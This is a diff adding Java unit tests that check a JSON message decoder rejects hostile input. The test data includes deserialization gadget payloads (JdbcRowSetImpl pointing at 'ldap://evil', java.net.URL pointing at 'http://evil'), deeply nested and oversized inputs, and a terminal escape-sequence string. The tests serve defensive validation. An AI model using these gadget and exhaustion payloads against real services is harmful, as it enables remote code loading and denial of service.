@@ -74,6 +74,53 @@ class MessageCodecTest {
         .withMessageContaining(message);
   }
 
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "{\"type\": \"com.sun.rowset.JdbcRowSetImpl\", \"dataSourceName\": \"ldap://evil\"}",
+        "[\"com.sun.rowset.JdbcRowSetImpl\", {\"dataSourceName\": \"ldap://evil\"}]",
+        "{\"@class\": \"java.net.URL\"}",
+        "[\"java.net.URL\", \"http://evil\"]"
+      })
+  void decode_classNameInPlaceOfAValue_isMalformed(String gadget) {
+    assertThatExceptionOfType(MalformedMessageException.class)
+        .isThrownBy(() -> decode(STARTED.replace("\"w\"", gadget), Report.class));
+    assertThatExceptionOfType(MalformedMessageException.class)
+        .isThrownBy(() -> decode(gadget.replace("{", "{\"version\": 1,"), Report.class));
+  }
+
+  @Test
+  void decode_classNameBesideTheValues_meansNothing() throws MalformedMessageException {
+    String named = STARTED.replace("{\"version\"", "{\"@class\": \"java.net.URL\", \"version\"");
+
+    assertThat(decode(named, Report.class)).isEqualTo(decode(STARTED, Report.class));
+  }
+
+  @Test
+  void decode_beyondTheLimitsOfJson_isMalformed() {
+    requireMalformed("[".repeat(65) + "]".repeat(65));
+    requireMalformed(STARTED.replace("\"w\"", "{\"a\":".repeat(65) + "1" + "}".repeat(65)));
+    requireMalformed(STARTED.replace("\"w\"", "\"" + "w".repeat((1 << 20) + 1) + "\""));
+    requireMalformed(STARTED.replace("\"number\": 1", "\"number\": 1" + "0".repeat(100)));
+    requireMalformed(STARTED.replace("\"worker\"", "\"" + "w".repeat(257) + "\": 1, \"worker\""));
+  }
+
+  @Test
+  void decode_reasonWithWhatWasSent_isShortAndOnOneLine() {
+    String kind = "\\u001b[2J\\u0007" + "x".repeat(10_000);
+
+    assertThatExceptionOfType(MalformedMessageException.class)
+        .isThrownBy(() -> decode(STARTED.replace("Started", kind), Report.class))
+        .satisfies(e -> assertThat(e.getMessage()).hasSizeLessThan(400).doesNotContain("\u001b"));
+    assertThatExceptionOfType(MalformedMessageException.class)
+        .isThrownBy(
+            () ->
+                decode(
+                    STARTED.replace("\"version\": 1", "\"version\": \"" + kind + "\""),
+                    Report.class))
+        .satisfies(e -> assertThat(e.getMessage()).hasSizeLessThan(400));
+  }
+
   @Test
   void decode_anotherKindOfMessage_isMalformed() {
     assertThatExceptionOfType(MalformedMessageException.class)
